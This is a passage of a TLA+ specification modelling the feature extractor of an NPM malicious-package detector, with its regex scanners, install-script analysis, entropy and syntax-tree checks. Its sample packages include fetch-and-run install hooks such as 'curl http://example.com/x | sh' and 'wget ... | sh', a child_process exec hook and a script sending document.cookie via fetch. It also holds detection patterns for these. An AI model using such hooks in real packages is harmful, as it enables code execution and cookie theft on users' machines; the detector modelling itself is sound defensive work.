---- MODULE Spec2Model ----
(***************************************************************************)
(* Model of the static feature extractor of the NPM malicious-package      *)
(* detector (src/Extractor/feature_extractor.py): the per-package          *)
(* analyzers of AdvancedFeatureExtractor, the assembly of the feature      *)
(* record, and the batch driver main() that writes the combined CSV table. *)
(*                                                                         *)
(* Python strings are TLA+ strings; a character is a string of length 1.   *)
(* Python dicts are functions; the key set of a dict d is DOMAIN d.        *)
(* Python float quotients are exact rationals <<numerator, denominator>>.  *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, Bags, TLC

(***************************************************************************)
(* Strings.                                                                *)
(***************************************************************************)

\* s[i-1:i] of Python: the character at position i, "" outside s
CharAt(s, i) == IF i >= 1 /\ i <= Len(s) THEN SubSeq(s, i, i) ELSE ""

\* s.startswith(p, i-1): p occurs in s at position i.
StartsAt(s, p, i) ==
    /\ i >= 1
    /\ i + Len(p) - 1 <= Len(s)
    /\ SubSeq(s, i, i + Len(p) - 1) = p

\* p in s
Contains(p, s) == \E i \in 1..(Len(s) + 1) : StartsAt(s, p, i)

\* s.startswith(p)
StartsWith(s, p) == StartsAt(s, p, 1)

\* s.endswith(p)
EndsWith(s, p) == Len(p) <= Len(s) /\ StartsAt(s, p, Len(s) - Len(p) + 1)

UpperChars == <<"A","B","C","D","E","F","G","H","I","J","K","L","M",
                "N","O","P","Q","R","S","T","U","V","W","X","Y","Z">>

LowerChars == <<"a","b","c","d","e","f","g","h","i","j","k","l","m",
                "n","o","p","q","r","s","t","u","v","w","x","y","z">>

DigitChars == {"0","1","2","3","4","5","6","7","8","9"}

LowerChar(c) ==
    IF \E k \in 1..26 : UpperChars[k] = c
    THEN LowerChars[CHOOSE k \in 1..26 : UpperChars[k] = c]
    ELSE c

RECURSIVE LowerFrom(_, _)
LowerFrom(s, i) ==
    IF i > Len(s) THEN "" ELSE LowerChar(CharAt(s, i)) \o LowerFrom(s, i + 1)

\* s.lower()
Lower(s) == LowerFrom(s, 1)

\* the characters matched by \s
Whitespace == {" ", "\t", "\n", "\r", "\f"}

\* the characters matched by [A-Za-z0-9+/]
Base64Chars ==
    {UpperChars[k] : k \in 1..26} \cup {LowerChars[k] : k \in 1..26}
        \cup DigitChars \cup {"+", "/"}

\* the least element of a non-empty set of integers
SetMin(S) == CHOOSE x \in S : \A y \in S : x <= y

\* number of consecutive characters of s from position i that lie in class
RunLen(s, i, class) ==
    LET stops == {j \in i..Len(s) : CharAt(s, j) \notin class}
    IN  IF i > Len(s) THEN 0
        ELSE IF stops = {} THEN Len(s) - i + 1
        ELSE SetMin(stops) - i

\* number of consecutive characters of s from position i that lie outside class
RunLenNot(s, i, class) ==
    LET stops == {j \in i..Len(s) : CharAt(s, j) \in class}
    IN  IF i > Len(s) THEN 0
        ELSE IF stops = {} THEN Len(s) - i + 1
        ELSE SetMin(stops) - i

Min(a, b) == IF a <= b THEN a ELSE b

Max(a, b) == IF a >= b THEN a ELSE b

(***************************************************************************)
(* Regular expressions.  A pattern of the extractor is a list of           *)
(* alternatives tried in order, matched with or without re.IGNORECASE, or  *)
(* one of the two character-class patterns.  An alternative is             *)
(* head \s* tail  (ws) or the literal head.                                *)
(***************************************************************************)

Lit(p) == [head |-> p, ws |-> FALSE, tail |-> ""]

\* p\s*\(
Call(p) == [head |-> p, ws |-> TRUE, tail |-> "("]

\* r'a|b|...'
Alts(alts) == [kind |-> "alts", alts |-> alts, ignorecase |-> FALSE]

\* r'a|b|...' with re.IGNORECASE, for lower-case alternatives
AltsIgnoreCase(alts) == [kind |-> "alts", alts |-> alts, ignorecase |-> TRUE]

\* r'[A-Za-z0-9+/]{20,}={0,2}'
Base64Pattern == [kind |-> "base64", alts |-> <<>>, ignorecase |-> FALSE]

\* r'https?://[^\s"\']+'
UrlPattern == [kind |-> "url", alts |-> <<>>, ignorecase |-> FALSE]

\* the literal p occurs in s at position i, up to case when ignorecase
LitAt(s, p, i, ignorecase) ==
    IF ignorecase
    THEN /\ i >= 1
         /\ i + Len(p) - 1 <= Len(s)
         /\ \A k \in 1..Len(p) : LowerChar(CharAt(s, i + k - 1)) = CharAt(p, k)
    ELSE StartsAt(s, p, i)

\* length of the match of alternative alt at position i of s, 0 when none
AltLen(s, i, alt, ignorecase) ==
    IF ~LitAt(s, alt.head, i, ignorecase) THEN 0
    ELSE IF ~alt.ws THEN Len(alt.head)
    ELSE LET j == i + Len(alt.head) + RunLen(s, i + Len(alt.head), Whitespace)
         IN  IF LitAt(s, alt.tail, j, ignorecase) THEN j + Len(alt.tail) - i ELSE 0

\* the first positive length of a list of lengths, 0 when there is none
FirstPositive(lens) ==
    IF \A k \in DOMAIN lens : lens[k] = 0 THEN 0
    ELSE lens[SetMin({k \in DOMAIN lens : lens[k] > 0})]

\* length of the match of the first alternative that matches at i, 0 when none
FirstAltLen(s, i, alts, ignorecase) ==
    FirstPositive([k \in 1..Len(alts) |-> AltLen(s, i, alts[k], ignorecase)])

\* the {20,} of the base64 pattern
Base64MinRun == 20

\* length of the match of [A-Za-z0-9+/]{20,}={0,2} at position i, 0 when none
Base64Len(s, i) ==
    LET run == RunLen(s, i, Base64Chars)
    IN  IF run < Base64MinRun THEN 0
        ELSE run + Min(2, RunLen(s, i + run, {"="}))

\* length of the match of https?://[^\s"\']+ at position i, 0 when none
UrlLen(s, i) ==
    LET k == IF StartsAt(s, "https://", i) THEN i + 8
             ELSE IF StartsAt(s, "http://", i) THEN i + 7
             ELSE 0
        run == IF k = 0 THEN 0 ELSE RunLenNot(s, k, Whitespace \cup {"\"", "'"})
    IN  IF run = 0 THEN 0 ELSE k + run - i

\* length of the match of pattern at position i of s, 0 when none
MatchLen(pattern, s, i) ==
    IF pattern.kind = "base64" THEN Base64Len(s, i)
    ELSE IF pattern.kind = "url" THEN UrlLen(s, i)
    ELSE FirstAltLen(s, i, pattern.alts, pattern.ignorecase)

\* the position after the match at position j
MatchEnd(lens, j) == j + lens[j]

\* the matches from position i on, given the length of the match at each
\* position: the leftmost one, then those after it
RECURSIVE FindallFrom(_, _)
FindallFrom(lens, i) ==
    IF \A j \in DOMAIN lens : j < i \/ lens[j] = 0 THEN 0
    ELSE 1 + FindallFrom(lens, MatchEnd(lens,
                 SetMin({j \in DOMAIN lens : j >= i /\ lens[j] > 0})))

\* len(re.findall(pattern, s)): leftmost non-overlapping matches
findall(pattern, s) ==
    FindallFrom([j \in 1..Len(s) |-> MatchLen(pattern, s, j)], 1)

(***************************************************************************)
(* Dicts and exact quotients.                                              *)
(***************************************************************************)

\* {**a, **b}: the keys of both, the value of b where both have the key
Merge(a, b) ==
    [k \in (DOMAIN a) \cup (DOMAIN b) |-> IF k \in DOMAIN b THEN b[k] ELSE a[k]]

RECURSIVE Gcd(_, _)
Gcd(a, b) == IF b = 0 THEN a ELSE Gcd(b, a % b)

\* the quotient n / d (d > 0) in lowest terms
Frac(n, d) == LET g == Gcd(n, d) IN IF n = 0 THEN <<0, 1>> ELSE <<n \div g, d \div g>>

\* a <= b for quotients
FracLeq(a, b) == a[1] * b[2] <= b[1] * a[2]

\* min(a, b) for quotients
FracMin(a, b) == IF FracLeq(a, b) THEN a ELSE b

(***************************************************************************)
(* The package directory handed to the extractor.                          *)
(*                                                                         *)
(* A file has its path relative to the package directory, the bytes it     *)
(* holds (size), whether open() succeeds (readable), the text read_file    *)
(* decodes (content) and, for a package.json, what json.load makes of it   *)
(* (json).  For a script file it also has what the tree-sitter parser      *)
(* makes of the text: nodes is the syntax tree in traversal order, valid   *)
(* says whether the text is syntactically valid (an invalid text still     *)
(* yields a tree, with ERROR nodes around what the parser recovered), and  *)
(* raiseAt > 0 is the node at which the traversal raises.                  *)
(***************************************************************************)

\* json.load raised JSONDecodeError
JsonInvalid == [kind |-> "invalid"]

\* json.load returned a value that is not an object (a list)
JsonList == [kind |-> "list"]

\* a field that is not in the object
Missing == [kind |-> "missing", items |-> <<>>]

\* a field whose value is null
Null == [kind |-> "null", items |-> <<>>]

\* a field whose value is an object with the given members, in file order
Map(items) == [kind |-> "map", items |-> items]

\* a field whose value is a list of the given strings
List(items) == [kind |-> "list", items |-> items]

\* a string-valued field
Str(text) == [kind |-> "str", items |-> text]

\* a number-valued field
Num == [kind |-> "num", items |-> <<>>]

\* a member of scripts whose value is a string
Hook(name, text) == [name |-> name, isStr |-> TRUE, text |-> text]

\* a member of scripts whose value is not a string (a number)
BadHook(name) == [name |-> name, isStr |-> FALSE, text |-> ""]

\* json.load returned an object
JsonObject(version, scripts, dependencies, devDependencies) ==
    [kind |-> "object", version |-> version, scripts |-> scripts,
     dependencies |-> dependencies, devDependencies |-> devDependencies]

Node(type, text) == [type |-> type, text |-> text]

NoTree == [valid |-> TRUE, nodes |-> <<>>, raiseAt |-> 0]

File(path, content, json, tree) ==
    [path |-> path, readable |-> TRUE, content |-> content,
     size |-> Len(content), json |-> json, tree |-> tree]

\* a file that exists but cannot be opened
Unreadable(path, size) ==
    [path |-> path, readable |-> FALSE, content |-> "",
     size |-> size, json |-> JsonInvalid, tree |-> NoTree]

(***************************************************************************)
(* The package directories of the model.                                   *)
(***************************************************************************)

\* the length a content must exceed to be analyzed
MinContentLen == 100

RECURSIVE Repeat(_, _)
Repeat(c, n) == IF n = 0 THEN "" ELSE c \o Repeat(c, n - 1)

\* a comment line that brings a file over the length at which it is analyzed
Filler == "\n// " \o Repeat("-", MinContentLen)

NotJson == [kind |-> "none"]

CookieTree ==
    [valid |-> TRUE, raiseAt |-> 0,
     nodes |-> <<Node("program", ""),
                 Node("variable_declaration", "var c = document.cookie;"),
                 Node("variable_declarator", "c = document.cookie"),
                 Node("identifier", "c"),
                 Node("member_expression", "document.cookie"),
                 Node("identifier", "document"),
                 Node("property_identifier", "cookie"),
                 Node("expression_statement", "fetch(c);"),
                 Node("call_expression", "fetch(c)"),
                 Node("identifier", "fetch"),
                 Node("arguments", "(c)"),
                 Node("identifier", "c"),
                 Node("comment", "")>>]

\* a valid script that reads the cookie and sends it
CookieJs == File("index.js", "var c = document.cookie;\nfetch(c);" \o Filler,
                 NotJson, CookieTree)

PasswordTree ==
    [valid |-> TRUE, raiseAt |-> 0,
     nodes |-> <<Node("program", ""),
                 Node("expression_statement", "user.password = process.env.PASSWD;"),
                 Node("assignment_expression", "user.password = process.env.PASSWD"),
                 Node("member_expression", "user.password"),
                 Node("identifier", "user"),
                 Node("property_identifier", "password"),
                 Node("member_expression", "process.env.PASSWD"),
                 Node("member_expression", "process.env"),
                 Node("identifier", "process"),
                 Node("property_identifier", "env"),
                 Node("property_identifier", "PASSWD"),
                 Node("comment", "")>>]

\* a valid script below the package directory that handles a password
PasswordJs == File("lib/auth.js", "user.password = process.env.PASSWD;" \o Filler,
                   NotJson, PasswordTree)

\* the same script when the traversal raises (RecursionError) at its 7th node
DeepJs == File("lib/auth.js", "user.password = process.env.PASSWD;" \o Filler,
               NotJson, [PasswordTree EXCEPT !.raiseAt = 7])

BrokenText == "var c = document.cookie;\nfunction ( {{{" \o Filler

\* a script that is not syntactically valid; the parser recovers the first
\* statement and wraps the rest in an ERROR node
BrokenJs ==
    File("index.js", BrokenText, NotJson,
         [valid |-> FALSE, raiseAt |-> 0,
          nodes |-> <<Node("program", ""),
                      Node("variable_declaration", "var c = document.cookie;"),
                      Node("variable_declarator", "c = document.cookie"),
                      Node("identifier", "c"),
                      Node("member_expression", "document.cookie"),
                      Node("identifier", "document"),
                      Node("property_identifier", "cookie"),
                      Node("ERROR", "function ( {{{"),
                      Node("comment", "")>>])

\* the same script when the parser recovers nothing
BrokenJsLost ==
    File("index.js", BrokenText, NotJson,
         [valid |-> FALSE, raiseAt |-> 0,
          nodes |-> <<Node("program", ""), Node("ERROR", BrokenText)>>])

\* a script too short to be analyzed
ShortJs == File("s.js", "eval(atob(x)); document.cookie", NotJson,
                [valid |-> TRUE, raiseAt |-> 0,
                 nodes |-> <<Node("program", ""),
                             Node("call_expression", "eval(atob(x))"),
                             Node("member_expression", "document.cookie"),
                             Node("property_identifier", "cookie")>>])

Readme == File("README.md", "# pkg\n\nInstall with npm.  Keep your password safe." \o Filler,
               NotJson, NoTree)

\* data files of high entropy: a run of the alphabet, repeated
Alphabet == "abcdefghijklmnopqrstuvwxyz"

TableA == File("data/a.txt", Repeat(SubSeq(Alphabet, 1, 17), 6), NotJson, NoTree)

TableB == File("data/b.txt", Repeat(SubSeq(Alphabet, 1, 19), 5) \o Repeat("ab", 3),
               NotJson, NoTree)

TableC == File("data/c.txt", Repeat(Alphabet, 4), NotJson, NoTree)

\* a style sheet on one line of more than MinifiedChars characters
MinCss == File("dist/site.min.css", Repeat("a{b:c}", 84), NotJson, NoTree)

\* a script on one line of more than MinifiedChars characters
MinJs == File("dist/app.min.js", "eval(x);" \o Repeat("a=b;", 130), NotJson, NoTree)

HiddenRc == File(".npmrc", "registry=https://registry.npmjs.org/", NotJson, NoTree)

\* a script that exists and cannot be opened
LockedJs == Unreadable("lib/locked.js", 2048)

Descriptor(content, json) == File("package.json", content, json, NoTree)

PjPlain ==
    Descriptor("{\"name\":\"a\",\"version\":\"1.0.0\"}",
               JsonObject(Str("1.0.0"), Missing, Missing, Missing))

PjCurl ==
    Descriptor("{\"version\":\"1.0.1\",\"scripts\":{\"postinstall\":\"curl http://example.com/x | sh\"}}",
               JsonObject(Str("1.0.1"),
                          Map(<<Hook("postinstall", "curl http://example.com/x | sh")>>),
                          Missing, Missing))

\* a valid install hook followed by one that is not a string
PjGoodBad ==
    Descriptor("{\"scripts\":{\"postinstall\":\"curl http://e.io/x\",\"preinstall\":5}}",
               JsonObject(Missing,
                          Map(<<Hook("postinstall", "curl http://e.io/x"),
                                BadHook("preinstall")>>),
                          Missing, Missing))

\* an install hook that is not a string followed by a valid one
PjBadGood ==
    Descriptor("{\"scripts\":{\"preinstall\":5,\"postinstall\":\"curl http://e.io/x\"}}",
               JsonObject(Missing,
                          Map(<<BadHook("preinstall"),
                                Hook("postinstall", "curl http://e.io/x")>>),
                          Missing, Missing))

PjNullScripts ==
    Descriptor("{\"version\":\"2.1.0\",\"scripts\":null}",
               JsonObject(Str("2.1.0"), Null, Missing, Missing))

\* a version that is not a string, with an install hook
PjNumVersion ==
    Descriptor("{\"version\":5,\"scripts\":{\"preinstall\":\"wget http://e.io/p -O- | sh\"}}",
               JsonObject(Num, Map(<<Hook("preinstall", "wget http://e.io/p -O- | sh")>>),
                          Missing, Missing))

\* a network command in a hook that is not install-related
PjTestOnly ==
    Descriptor("{\"version\":\"0.0.1\",\"scripts\":{\"test\":\"curl http://e.io/t\"}}",
               JsonObject(Str("0.0.1"), Map(<<Hook("test", "curl http://e.io/t")>>),
                          Missing, Missing))

PjUninstall ==
    Descriptor("{\"scripts\":{\"preuninstall\":\"node -e \\\"require('child_process').exec('id')\\\"\"}}",
               JsonObject(Missing,
                          Map(<<Hook("preuninstall",
                                     "node -e \"require('child_process').exec('id')\"")>>),
                          Missing, Missing))

PjDeps ==
    Descriptor("{\"version\":\"1.2.3-beta.1\",\"dependencies\":{\"axios\":\"^1.0.0\",\"lodash\":\"*\"},\"devDependencies\":{\"mocha\":\"*\"}}",
               JsonObject(Str("1.2.3-beta.1"), Missing,
                          Map(<<"axios", "lodash">>), Map(<<"mocha">>)))

\* the suspicious names are under devDependencies only
PjDevOnly ==
    Descriptor("{\"dependencies\":{\"lodash\":\"*\"},\"devDependencies\":{\"axios\":\"*\",\"shelljs\":\"*\"}}",
               JsonObject(Missing, Missing, Map(<<"lodash">>),
                          Map(<<"axios", "shelljs">>)))

\* every dependency is suspicious
PjAllSuspicious ==
    Descriptor("{\"dependencies\":{\"Axios-Retry\":\"*\",\"child_process\":\"*\"}}",
               JsonObject(Missing, Missing, Map(<<"Axios-Retry", "child_process">>),
                          Missing))

\* scripts is a list of hook names
PjListScripts ==
    Descriptor("{\"version\":\"1.0.0\",\"scripts\":[\"preinstall\",\"x\"]}",
               JsonObject(Str("1.0.0"), List(<<"preinstall", "x">>), Missing, Missing))

\* scripts is a string
PjStrScripts ==
    Descriptor("{\"version\":\"1.0.0\",\"scripts\":\"postinstall\"}",
               JsonObject(Str("1.0.0"), Str("postinstall"), Missing, Missing))

PjNullDeps ==
    Descriptor("{\"version\":\"latest\",\"dependencies\":null,\"scripts\":{\"install\":\"node-gyp rebuild\"}}",
               JsonObject(Str("latest"), Map(<<Hook("install", "node-gyp rebuild")>>),
                          Null, Missing))

PjList == Descriptor("[]", JsonList)

PjInvalid == Descriptor("{\"name\": ", JsonInvalid)

PjLocked == Unreadable("package.json", 64)

\* a descriptor below the package directory, none in it
PjNested ==
    File("lib/package.json",
         "{\"version\":\"2.0\",\"scripts\":{\"install\":\"fetch https://e.io/i && node i.js\"}}",
         JsonObject(Str("2.0"),
                    Map(<<Hook("install", "fetch https://e.io/i && node i.js")>>),
                    Missing, Missing),
         NoTree)

\* the descriptor files of a package: none, or one of the above
Descriptors ==
    {<<>>, <<PjPlain>>, <<PjCurl>>, <<PjGoodBad>>, <<PjBadGood>>, <<PjNullScripts>>,
     <<PjNumVersion>>, <<PjTestOnly>>, <<PjUninstall>>, <<PjDeps>>, <<PjNullDeps>>,
     <<PjDevOnly>>, <<PjAllSuspicious>>, <<PjListScripts>>, <<PjStrScripts>>,
     <<PjList>>, <<PjInvalid>>, <<PjLocked>>, <<PjNested>>}

\* the other files of a package
Sources ==
    {<<>>, <<CookieJs>>, <<BrokenJs>>, <<BrokenJsLost>>, <<ShortJs>>, <<DeepJs>>,
     <<Readme, PasswordJs>>, <<LockedJs, CookieJs>>, <<HiddenRc, ShortJs>>}

Packages == {[files |-> d \o f] : d \in Descriptors, f \in Sources}

\* the largest number of sibling directories of a sample
MaxSiblings == 2

\* the parent (date) directory of a sample
Parents == {[exists |-> TRUE, siblings |-> n] : n \in 0..MaxSiblings}

\* the samples: a package directory in its date directory, and whether the
\* tree-sitter import succeeded; a directory that vanished has no files
Samples ==
    {[package |-> p, parent |-> d, TREE_SITTER_AVAILABLE |-> t] :
        p \in Packages, d \in Parents, t \in BOOLEAN}
    \cup {[package |-> [files |-> <<>>],
           parent |-> [exists |-> FALSE, siblings |-> 0],
           TREE_SITTER_AVAILABLE |-> t] : t \in BOOLEAN}

\* the files of the packages and the texts read from them
AllFiles == UNION {{p.files[i] : i \in 1..Len(p.files)} : p \in Packages}

\* the files a scan is run over on its own
ScanPool == {CookieJs, PasswordJs, ShortJs, MinJs, MinCss, TableA, TableB, TableC}

Contents == {f.content : f \in AllFiles \cup ScanPool} \cup {""}

(***************************************************************************)
(* File Reader.                                                            *)
(***************************************************************************)

\* read_file with a failed read yielding a text that is analyzed
read_file_stale(file) == IF file.readable THEN file.content ELSE CookieJs.content

\* read_file: the decoded text, "" when the read fails
read_file(file) == IF file.readable THEN file.content ELSE ""

\* the number of bytes detect_binary reads
BinaryChunk == 1024

\* the symbols of the texts of the model whose byte is at most 127
AsciiText ==
    " !\"#$%&'()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[\\]^_"
        \o "abcdefghijklmnopqrstuvwxyz{|}~\n\r\t\f"

\* detect_binary: some byte of the first chunk is above 127, FALSE when the
\* open or the read fails
detect_binary(file) ==
    IF file.readable
    THEN \E i \in 1..Min(Len(file.content), BinaryChunk) :
            \A j \in 1..Len(AsciiText) : CharAt(file.content, i) # CharAt(AsciiText, j)
    ELSE FALSE

\* the last component of a path
RECURSIVE BaseNameFrom(_, _)
BaseNameFrom(path, i) ==
    IF i = 0 THEN path
    ELSE IF CharAt(path, i) = "/" THEN SubSeq(path, i + 1, Len(path))
    ELSE BaseNameFrom(path, i - 1)

BaseName(path) == BaseNameFrom(path, Len(path))

\* find_package_json: package.json of the package directory, else the first
\* one below it, else None
find_package_json(package) ==
    LET files == package.files
        root == {i \in 1..Len(files) : files[i].path = "package.json"}
        below == {i \in 1..Len(files) : BaseName(files[i].path) = "package.json"}
    IN  IF root # {} THEN CHOOSE i \in root : TRUE
        ELSE IF below # {} THEN CHOOSE i \in below : \A j \in below : i <= j
        ELSE 0

(***************************************************************************)
(* Lexical Pattern Scanner.                                                *)
(***************************************************************************)

\* extract_granular_security_patterns
\* the regular expression of each count of extract_granular_security_patterns
SecurityRegexes ==
    [fs_read_count |-> Alts(<<Lit("fs.readFile"), Lit("readFileSync")>>),
     fs_write_count |-> Alts(<<Lit("fs.writeFile"), Lit("writeFileSync")>>),
     fs_delete_count |-> Alts(<<Lit("fs.unlink"), Lit("fs.rmdir"), Lit("fs.rm")>>),
     http_request_count |-> Alts(<<Lit("http.request"), Lit("https.request")>>),
     fetch_count |-> Alts(<<Call("fetch"), Lit("axios.get"), Lit("axios.post")>>),
     socket_count |-> Alts(<<Lit("net.Socket"), Lit("net.connect")>>),
     exec_count |-> Alts(<<Call("exec"), Lit("execSync")>>),
     spawn_count |-> Alts(<<Call("spawn"), Lit("spawnSync")>>),
     fork_count |-> Alts(<<Lit("child_process.fork")>>),
     password_access |-> AltsIgnoreCase(<<Lit("password"), Lit("passwd")>>),
     cookie_access |-> Alts(<<Lit("document.cookie")>>),
     env_variable_access |-> Alts(<<Lit("process.env")>>),
     base64_pattern_count |-> Base64Pattern,
     eval_usage_count |-> Alts(<<Call("eval")>>)]

\* extract_granular_security_patterns
extract_granular_security_patterns(content) ==
    [name \in DOMAIN SecurityRegexes |-> findall(SecurityRegexes[name], content)]

\* the scanner's counts for each text of the model, computed once
SecurityPatterns == [content \in Contents |-> extract_granular_security_patterns(content)]

(***************************************************************************)
(* Install-script analyzer.                                                *)
(***************************************************************************)

\* the features dict extract_install_script_features starts from
InstallDefaults ==
    [has_install_command |-> 0, base64_in_install_script |-> 0,
     domain_in_install_script |-> 0, network_in_install_script |-> 0,
     process_env_in_install_script |-> 0, file_ops_in_install_script |-> 0,
     shell_exec_in_install_script |-> 0]

InstallKeywords == {"install", "preinstall", "postinstall"}

\* any(keyword in script_name for keyword in [...])
IsInstallHook(name) == \E keyword \in InstallKeywords : Contains(keyword, name)

\* the members of scripts appended to install_scripts, in order
InstallScripts(items) == SelectSeq(items, LAMBDA it : IsInstallHook(it.name))

\* the regular expression of each count of an install script
InstallRegexes ==
    [base64_in_install_script |-> Base64Pattern,
     domain_in_install_script |-> UrlPattern,
     network_in_install_script |->
        AltsIgnoreCase(<<Lit("curl"), Lit("wget"), Lit("fetch"), Lit("http")>>),
     process_env_in_install_script |-> Alts(<<Lit("process.env")>>),
     file_ops_in_install_script |-> Alts(<<Lit("fs."), Lit("readFile"), Lit("writeFile")>>),
     shell_exec_in_install_script |-> Alts(<<Lit("exec"), Lit("spawn"), Lit("child_process")>>)]

\* the six counts of one install script added to features
AddInstallCounts(features, text) ==
    [name \in DOMAIN features |->
        IF name \in DOMAIN InstallRegexes
        THEN features[name] + findall(InstallRegexes[name], text)
        ELSE features[name]]

\* the loop over install_scripts: re.findall raises TypeError on a value that
\* is not a string, with features as the scripts before it left them
RECURSIVE AnalyzeInstallScripts(_, _, _)
AnalyzeInstallScripts(features, install_scripts, k) ==
    IF k > Len(install_scripts) THEN [raised |-> FALSE, features |-> features]
    ELSE IF ~install_scripts[k].isStr THEN [raised |-> TRUE, features |-> features]
    ELSE AnalyzeInstallScripts(AddInstallCounts(features, install_scripts[k].text),
                               install_scripts, k + 1)

\* the analysis of the install scripts collected from the scripts map:
\* has_install_command is set when one was collected
CollectedAnalysis(install_scripts) ==
    AnalyzeInstallScripts(
        [InstallDefaults EXCEPT
            !.has_install_command = IF Len(install_scripts) > 0 THEN 1 ELSE @],
        install_scripts, 1)

\* the try block of extract_install_script_features from the read of the
\* descriptor on
DescriptorAnalysis(file) ==
    IF ~file.readable \/ file.json.kind # "object"
    THEN [raised |-> TRUE, features |-> InstallDefaults]
    ELSE IF file.json.scripts.kind = "missing"
    THEN [raised |-> FALSE, features |-> InstallDefaults]
    ELSE IF file.json.scripts.kind # "map"
    THEN [raised |-> TRUE, features |-> InstallDefaults]
    ELSE CollectedAnalysis(InstallScripts(file.json.scripts.items))

\* the try block of extract_install_script_features: whether it raised, and
\* features as it left them
InstallScriptAnalysis(package) ==
    IF find_package_json(package) = 0
    THEN [raised |-> FALSE, features |-> InstallDefaults]
    ELSE DescriptorAnalysis(package.files[find_package_json(package)])

\* extract_install_script_features: the except clause prints the error, and
\* features is returned either way
extract_install_script_features(package) == InstallScriptAnalysis(package).features

(***************************************************************************)
(* Entropy.  math.log2 is computed in fixed point with FracBits binary     *)
(* places; an entropy value e stands for e / 2^FracBits bits per symbol.   *)
(***************************************************************************)

FracBits == 10

RECURSIVE Pow2(_)
Pow2(k) == IF k = 0 THEN 1 ELSE 2 * Pow2(k - 1)

One == Pow2(FracBits)

\* floor(log2(n)) for n >= 1
RECURSIVE Log2Floor(_)
Log2Floor(n) == IF n < 2 THEN 0 ELSE 1 + Log2Floor(n \div 2)

\* the binary places of log2(m / One) for One <= m < 2 * One, by squaring
RECURSIVE Log2Places(_, _)
Log2Places(m, place) ==
    IF place = 0 THEN 0
    ELSE LET sq == (m * m) \div One
         IN  IF sq >= 2 * One
             THEN Pow2(place - 1) + Log2Places(sq \div 2, place - 1)
             ELSE Log2Places(sq, place - 1)

\* math.log2(n) * One for an integer n >= 1
Log2(n) ==
    LET k == Log2Floor(n)
    IN  k * One + Log2Places((n * One) \div Pow2(k), FracBits)

\* Counter(data): the number of occurrences of each symbol of data
Counter(data) ==
    LET symbols == {CharAt(data, i) : i \in 1..Len(data)}
    IN  [c \in symbols |-> Cardinality({i \in 1..Len(data) : CharAt(data, i) = c})]

RECURSIVE SumOver(_, _)
SumOver(f, keys) ==
    IF keys = {} THEN 0
    ELSE LET k == CHOOSE k \in keys : TRUE IN f[k] + SumOver(f, keys \ {k})

\* calculate_entropy without the symbol counts: log2(n)
calculate_entropy_uncounted(data) ==
    IF data = "" THEN 0 ELSE Log2(Len(data))

\* calculate_entropy: -sum((c/n) * log2(c/n)) = log2(n) - sum(c * log2(c)) / n
calculate_entropy(data) ==
    IF data = "" THEN 0
    ELSE LET counter == Counter(data)
             length == Len(data)
             weighted == [c \in DOMAIN counter |-> counter[c] * Log2(counter[c])]
         IN  Log2(length) - (SumOver(weighted, DOMAIN counter) \div length)

\* the entropy of each text of the model, computed once
Entropies == [content \in Contents |-> calculate_entropy(content)]

(***************************************************************************)
(* Syntax Pattern Matcher.                                                 *)
(***************************************************************************)

\* the pii_features dict extract_pii_patterns_ast starts from
PiiDefaults == [password_access |-> 0, cookie_access |-> 0]

\* traverse_pii at one node: what it adds to password_access and cookie_access
VisitPii(node) ==
    LET prop_name == Lower(node.text)
    IN  [password_access |->
            IF /\ node.type = "property_identifier"
               /\ (Contains("password", prop_name) \/ Contains("passwd", prop_name))
            THEN 1 ELSE 0,
         cookie_access |->
            IF node.type = "member_expression" /\ node.text = "document.cookie"
            THEN 1 ELSE 0]

\* traverse_pii over the tree; an exception at node raiseAt leaves
\* pii_features as updated by the nodes before it
TraversePii(tree) ==
    LET visited == {k \in 1..Len(tree.nodes) : tree.raiseAt = 0 \/ k < tree.raiseAt}
    IN  [password_access |->
            Cardinality({k \in visited : VisitPii(tree.nodes[k]).password_access = 1}),
         cookie_access |->
            Cardinality({k \in visited : VisitPii(tree.nodes[k]).cookie_access = 1})]

\* extract_pii_patterns_ast
extract_pii_patterns_ast(js_code, tree, TREE_SITTER_AVAILABLE) ==
    IF ~TREE_SITTER_AVAILABLE \/ js_code = "" THEN PiiDefaults
    ELSE TraversePii(tree)

(***************************************************************************)
(* Advanced features: entropy, lexical and syntax counts over the files.   *)
(***************************************************************************)

\* the minified heuristic: fewer than MinifiedLines lines ...
MinifiedLines == 5

\* ... and more than MinifiedChars characters
MinifiedChars == 500

\* the features dict extract_advanced_features starts from
AdvancedDefaults ==
    [max_entropy |-> 0, avg_entropy |-> 0, entropy_variance |-> 0,
     minified_files |-> 0, minified_ratio |-> <<0, 1>>,
     obfuscation_score |-> <<0, 1>>,
     base64_density |-> <<0, 1>>, eval_density |-> <<0, 1>>]

\* len(content.splitlines())
RECURSIVE SplitLinesFrom(_, _)
SplitLinesFrom(content, i) ==
    IF i > Len(content) THEN 0
    ELSE LET brk == RunLenNot(content, i, {"\n", "\r", "\f"})
             j == i + brk
         IN  IF j > Len(content) THEN 1
             ELSE IF StartsAt(content, "\r\n", j)
                  THEN 1 + SplitLinesFrom(content, j + 2)
                  ELSE 1 + SplitLinesFrom(content, j + 1)

splitlines(content) == SplitLinesFrom(content, 1)

ScriptExtensions == {".js", ".ts", ".jsx", ".tsx"}

\* file.endswith(('.js', '.ts', '.jsx', '.tsx'))
IsScriptFile(name) == \E ext \in ScriptExtensions : EndsWith(name, ext)

\* for key, value in d.items(): features[key] += value (= value when absent)
AddCounts(features, d) ==
    [k \in (DOMAIN features) \cup (DOMAIN d) |->
        IF k \notin DOMAIN d THEN features[k]
        ELSE IF k \in DOMAIN features THEN features[k] + d[k]
        ELSE d[k]]

\* the local variables of extract_advanced_features before the first file
ScanStart ==
    [features |-> AdvancedDefaults, entropies |-> <<>>,
     total_files_analyzed |-> 0, total_js_files |-> 0, minified_files |-> 0,
     total_base64_count |-> 0, total_eval_count |-> 0]

\* the minified heuristic
IsMinified(content) ==
    splitlines(content) < MinifiedLines /\ Len(content) > MinifiedChars

\* the body of the loop over the files for a file that is not a script file
ScanOther(acc, minified, entropy) ==
    [acc EXCEPT
        !.entropies = Append(@, entropy),
        !.total_files_analyzed = @ + 1,
        !.minified_files = @ + (IF minified THEN 1 ELSE 0)]

\* ScanScript without the counts of extract_pii_patterns_ast
ScanScriptLexicalOnly(acc, minified, entropy, security_features, pii_ast_features) ==
    [acc EXCEPT
        !.features = AddCounts(@, security_features),
        !.entropies = Append(@, entropy),
        !.total_files_analyzed = @ + 1,
        !.total_js_files = @ + 1,
